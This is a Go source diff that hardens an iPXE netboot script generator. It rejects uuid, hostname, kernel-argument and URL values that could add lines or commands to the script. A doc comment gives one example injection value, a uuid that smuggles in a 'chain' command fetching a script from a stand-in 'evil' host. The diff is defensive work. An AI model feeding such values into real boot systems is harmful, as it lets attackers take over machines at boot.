@@ -6,6 +6,42 @@
 //
 // Everything here is a pure function over values; the HTTP handlers that
 // serve the scripts live with the boot flow.
+//
+// # Values in scripts
+//
+// iPXE reads a script a line at a time (a line ends at LF; a trailing CR is
+// dropped and a trailing backslash joins the next line), splits each line
+// into words at whitespace, expands every "${" setting inside a word,
+// treats a word starting with "#" as the start of a comment to the end of
+// the line, and a word "||", "&&" or ";" as the end of one command and the
+// start of the next (iPXE's src/core/exec.c and src/image/script.c). A value
+// that reached a script unchecked could therefore add lines or commands to
+// it: a uuid of "x\nchain http://evil/evil.ipxe" filled into ${uuid} would.
+//
+// So NetbootScript and KernelArgs check every value after ${mac}, ${uuid}
+// and ${hostname} are filled in, and return an error naming the machine and
+// the field (a *ValueError), with no script at all, when one
+//
+//   - is empty, or longer than maxValue (2047 bytes);
+//   - holds a byte other than printable ASCII, '!' to '~': a space, TAB, CR,
+//     LF, NUL or other control character, DEL, or any non-ASCII byte;
+//   - holds "${";
+//   - stands as a word of its own (a kernel argument, the base URL, the
+//     Talos version in the echo line) and starts with "#" or is "||", "&&"
+//     or ";".
+//
+// The values checked are the uuid and hostname themselves (when set and a
+// kernel argument uses them), each kernel argument as it will be written (the
+// factory's cmdline, the profile's kernelArgs, talos.config with its URL),
+// the base URL, schematic ID, Talos version and arch; a ${uuid} is filled
+// only with a canonical SMBIOS UUID (machine.ParseUUID), printed in
+// canonical form. The whole kernel command line must also fit the 2048
+// bytes, NUL included, that Linux keeps on x86-64 and arm64
+// (COMMAND_LINE_SIZE), since the kernel would silently cut the rest,
+// talos.config last. No value ends a line, so a trailing backslash cannot
+// join two. A script therefore consists of its template's lines only,
+// each starting with the template's own command; FuzzNetbootScript checks
+// exactly that.
 package boot
 
 import (
@@ -113,7 +149,9 @@ type NetbootParams struct {
 	// (http://192.168.1.5:8080).
 	BaseURL string
 	// MAC, UUID and Hostname fill ${mac} (colon form), ${uuid} and
-	// ${hostname} in kernel arguments.
+	// ${hostname} in kernel arguments. UUID is "" (${uuid} is then empty)
+	// or an SMBIOS UUID in the form machine.ParseUUID reads, filled in
+	// canonical form; Hostname is "" or a host name.
 	MAC            machine.MAC
 	UUID, Hostname string
 	// SchematicID and Version select the assets, Arch their architecture.
@@ -127,10 +165,103 @@ type NetbootParams struct {
 	ConfigURL string
 }
 
-// NetbootScript returns the iPXE script that boots Talos per p. It fails on a
-// kernel argument iPXE would mangle: whitespace, or a ${…} placeholder
+// ValueError is the error of NetbootScript and KernelArgs for a value
+// that would change the script's shape or the kernel's command line (see
+// the package doc, "Values in scripts").
+type ValueError struct {
+	// MAC is the machine the script is for.
+	MAC machine.MAC
+	// Field names the value: "uuid", "hostname", "kernel argument",
+	// "factory cmdline", "talos.config URL", "kernel command line",
+	// "base URL", "schematic ID", "version" or "arch".
+	Field string
+	// Value is the offending value, cut to its first 64 bytes.
+	Value string
+	// Len is the value's whole length in bytes.
+	Len int
+	// Reason says what is wrong with it.
+	Reason string
+}
+
+// Error returns "boot: machine MAC: FIELD "VALUE": REASON", with at most 64
+// bytes of the value quoted.
+func (e *ValueError) Error() string {
+	v := fmt.Sprintf("%q", e.Value)
+	if e.Len > len(e.Value) {
+		v += fmt.Sprintf("… (%d bytes)", e.Len)
+	}
+	return fmt.Sprintf("boot: machine %s: %s %s: %s", e.MAC, e.Field, v, e.Reason)
+}
+
+// maxValue is the longest value, and the longest kernel command line, a
+// script may hold: Linux keeps COMMAND_LINE_SIZE bytes of the command
+// line, NUL included, which is 2048 on x86-64 and arm64, and silently cuts
+// the rest.
+const maxValue = 2047
+
+// valueError returns a *ValueError for field holding v, or nil when v is a
+// valid script value; word says v stands as a whole word of its line.
+func valueError(mac machine.MAC, field, v string, word bool) error {
+	if reason := valueProblem(v, word); reason != "" {
+		return newValueError(mac, field, v, reason)
+	}
+	return nil
+}
+
+// newValueError returns the *ValueError for field holding v, keeping at
+// most 64 bytes of v.
+func newValueError(mac machine.MAC, field, v, reason string) *ValueError {
+	return &ValueError{MAC: mac, Field: field, Value: v[:min(len(v), 64)], Len: len(v), Reason: reason}
+}
+
+// valueProblem says what makes v unfit for a script, or "" when nothing
+// does (the rules of the package doc).
+func valueProblem(v string, word bool) string {
+	switch {
+	case v == "":
+		return "empty"
+	case len(v) > maxValue:
+		return fmt.Sprintf("%d bytes, longer than the %d the kernel keeps", len(v), maxValue)
+	}
+	for i := 0; i < len(v); i++ {
+		switch c := v[i]; {
+		case c == ' ':
+			return "holds a space, which would split it in two"
+		case c < ' ' || c == 0x7f:
+			return fmt.Sprintf("holds the control character %q, which could end the line or the word", c)
+		case c > 0x7f:
+			return "holds a byte that is not ASCII"
+		}
+	}
+	switch {
+	case strings.Contains(v, "${"):
+		return "holds \"${\", which iPXE would expand; only ${mac}, ${uuid} and ${hostname} are filled in, by tinderbox"
+	case word && v[0] == '#':
+		return "starts with \"#\", which would comment out the rest of the line in iPXE"
+	case word && (v == "||" || v == "&&" || v == ";"):
+		return "is an iPXE command separator"
+	}
+	return ""
+}
+
+// NetbootScript returns the iPXE script that boots Talos per p. It fails,
+// returning "" and a *ValueError, when a value breaks the rules of the
+// package doc ("Values in scripts"), among them a ${…} placeholder
 // tinderbox cannot fill.
 func NetbootScript(p NetbootParams) (string, error) {
+	for _, v := range []struct {
+		field, v string
+		word     bool
+	}{
+		{"base URL", p.BaseURL, true},
+		{"schematic ID", p.SchematicID, false},
+		{"version", p.Version, true},
+		{"arch", string(p.Arch), false},
+	} {
+		if err := valueError(p.MAC, v.field, v.v, v.word); err != nil {
+			return "", err
+		}
+	}
 	args, err := KernelArgs(p)
 	if err != nil {
 		return "", err
@@ -161,34 +292,97 @@ func NetbootScript(p NetbootParams) (string, error) {
 
 // KernelArgs returns the kernel command line of a netboot: the factory's
 // cmdline, then the profile's arguments (an argument "-name" removes every
-// earlier argument named name, with or without a value), then talos.config.
-// ${mac}, ${uuid} and ${hostname} are filled in here, so iPXE, which would
-// expand any ${…} itself, passes them on as written.
+// earlier argument named name, with or without a value), then
+// talos.config. ${mac}, ${uuid} and ${hostname} are filled in here, so
+// iPXE, which would expand any ${…} itself, passes them on as written.
+// Every argument is checked after filling in, and the whole line, with the
+// image name and initrd= NetbootScript adds, against the kernel's limit;
+// a failure is a *ValueError (package doc, "Values in scripts").
 func KernelArgs(p NetbootParams) ([]string, error) {
-	args := strings.Fields(p.Cmdline)
+	if len(p.Cmdline) > maxValue {
+		return nil, valueError(p.MAC, "factory cmdline", p.Cmdline, false)
+	}
+	var args []kernelArg
+	for _, a := range strings.Fields(p.Cmdline) {
+		args = append(args, kernelArg{a, "factory cmdline"})
+	}
 	for _, a := range p.KernelArgs {
 		if name, ok := strings.CutPrefix(a, "-"); ok && name != "" {
-			args = slices.DeleteFunc(args, func(x string) bool { return argName(x) == name })
+			args = slices.DeleteFunc(args, func(x kernelArg) bool { return argName(x.text) == name })
 			continue
 		}
-		args = append(args, a)
+		args = append(args, kernelArg{a, "kernel argument"})
 	}
 	if p.ConfigURL != "" {
-		args = slices.DeleteFunc(args, func(x string) bool { return argName(x) == "talos.config" })
-		args = append(args, "talos.config="+p.ConfigURL)
-	}
-	fill := strings.NewReplacer("${mac}", p.MAC.String(), "${uuid}", p.UUID, "${hostname}", p.Hostname)
-	for i, a := range args {
-		if strings.ContainsAny(a, " \t\r\n") || a == "" {
-			return nil, fmt.Errorf("boot: kernel argument %q: empty or holds whitespace", a)
+		if err := valueError(p.MAC, "talos.config URL", p.ConfigURL, false); err != nil {
+			return nil, err
 		}
-		a = fill.Replace(a)
-		if strings.Contains(a, "${") {
-			return nil, fmt.Errorf("boot: kernel argument %q: only ${mac}, ${uuid} and ${hostname} can be filled in; iPXE would expand any other ${…}", args[i])
-		}
-		args[i] = a
+		args = slices.DeleteFunc(args, func(x kernelArg) bool { return argName(x.text) == "talos.config" })
+		args = append(args, kernelArg{"talos.config=" + p.ConfigURL, "talos.config URL"})
 	}
-	return args, nil
+	fill, err := filler(p, args)
+	if err != nil {
+		return nil, err
+	}
+	// The command line's length as the kernel gets it: iPXE's EFI build
+	// puts the image's name first, and NetbootScript adds initrd=.
+	n := len("kernel-" + string(p.Arch) + " initrd=initramfs-" + string(p.Arch) + ".xz")
+	out := make([]string, 0, len(args))
+	for _, a := range args {
+		if len(a.text) > maxValue {
+			return nil, newValueError(p.MAC, a.field, a.text, fmt.Sprintf("longer than the %d bytes the kernel keeps", maxValue))
+		}
+		text := fill.Replace(a.text)
+		if reason := valueProblem(text, true); reason != "" {
+			if text != a.text {
+				reason += fmt.Sprintf(" (from %s with ${mac}, ${uuid} and ${hostname} filled in)", clip(a.text))
+			}
+			return nil, newValueError(p.MAC, a.field, text, reason)
+		}
+		n += 1 + len(text)
+		out = append(out, text)
+	}
+	if n > maxValue {
+		return nil, newValueError(p.MAC, "kernel command line", strings.Join(out, " "),
+			fmt.Sprintf("%d bytes with the image name and initrd=, longer than the %d the kernel keeps: it would cut the rest, talos.config last", n, maxValue))
+	}
+	return out, nil
+}
+
+// kernelArg is a kernel argument before ${…} are filled in, with the field
+// it came from for a ValueError.
+type kernelArg struct{ text, field string }
+
+// filler returns the replacer of ${mac}, ${uuid} and ${hostname}. The uuid
+// and hostname are checked only when an argument uses their placeholder:
+// the uuid must then be "" or an SMBIOS UUID (machine.ParseUUID), filled in
+// canonical form, and the hostname "" or a valid script value.
+func filler(p NetbootParams, args []kernelArg) (*strings.Replacer, error) {
+	uses := func(placeholder string) bool {
+		return slices.ContainsFunc(args, func(a kernelArg) bool { return strings.Contains(a.text, placeholder) })
+	}
+	var uuid string
+	if p.UUID != "" && uses("${uuid}") {
+		u, err := machine.ParseUUID(p.UUID)
+		if err != nil {
+			return nil, newValueError(p.MAC, "uuid", p.UUID, "not an SMBIOS UUID: want 8-4-4-4-12 hex digits, neither all 0 nor all f")
+		}
+		uuid = u.String()
+	}
+	if p.Hostname != "" && uses("${hostname}") {
+		if err := valueError(p.MAC, "hostname", p.Hostname, false); err != nil {
+			return nil, err
+		}
+	}
+	return strings.NewReplacer("${mac}", p.MAC.String(), "${uuid}", uuid, "${hostname}", p.Hostname), nil
+}
+
+// clip quotes s for an error message, cut to its first 64 bytes.
+func clip(s string) string {
+	if len(s) > 64 {
+		return fmt.Sprintf("%q…", s[:64])
+	}
+	return fmt.Sprintf("%q", s)
 }
 
 // argName is a kernel argument's name: the part before "=".
